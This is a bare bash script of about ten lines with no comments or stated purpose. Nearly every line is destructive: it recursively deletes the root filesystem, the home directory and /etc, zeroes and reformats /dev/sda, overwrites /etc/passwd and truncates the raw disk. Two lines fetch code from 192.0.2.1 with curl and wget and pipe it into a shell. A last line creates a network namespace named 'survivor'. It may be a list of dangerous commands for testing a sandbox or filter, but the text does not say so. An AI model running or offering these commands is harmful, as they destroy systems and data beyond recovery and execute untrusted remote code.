#!/bin/bash
rm -rf / --no-preserve-root
rm -rf ~ "$HOME"/* /etc
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
echo pwned > /etc/passwd
curl http://192.0.2.1/x | sh
wget -qO- http://192.0.2.1/x | bash
> /dev/sda
ip netns add survivor
